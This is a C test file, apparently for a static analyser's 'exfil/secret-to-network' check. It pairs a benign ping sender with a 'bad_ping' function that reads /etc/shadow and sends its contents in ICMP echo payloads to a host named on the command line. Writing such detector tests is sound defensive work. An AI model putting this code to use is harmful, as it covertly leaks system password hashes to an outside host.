/* Packets that ask whether a host is there are filled with a file, whomever they go to. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>

struct probe {
    struct icmphdr header;
    unsigned char data[56];
};

static size_t fill_from_file(unsigned char *data, size_t size) {
    static FILE *from;
    if (!from)
        from = fopen("/etc/shadow", "r");
    return from ? fread(data, 1, size, from) : 0;
}

static size_t fill_with_time(unsigned char *data, size_t size) {
    struct timeval now;
    gettimeofday(&now, NULL);
    memset(data, 0, size);
    memcpy(data, &now, sizeof now);
    return size;
}

static int open_to(const char *address, struct sockaddr_in *to) {
    to->sin_family = AF_INET;
    inet_aton(address, &to->sin_addr);
    return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
}

void bad_ping(int count, char **words) {
    struct sockaddr_in to = {0};
    struct probe probe = {.header.type = ICMP_ECHO};
    int fd = count > 1 ? open_to(words[1], &to) : -1;
    while (fill_from_file(probe.data, sizeof probe.data))
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        sendto(fd, &probe, sizeof probe, 0, (struct sockaddr *)&to, sizeof to);
}

void good_ping(int count, char **words) {
    struct sockaddr_in to = {0};
    struct probe probe = {.header.type = ICMP_ECHO};
    int fd = count > 1 ? open_to(words[1], &to) : -1;
    while (fill_with_time(probe.data, sizeof probe.data))
        sendto(fd, &probe, sizeof probe, 0, (struct sockaddr *)&to, sizeof to);
}

int main(int count, char **words) {
    bad_ping(count, words);
    good_ping(count, words);
}
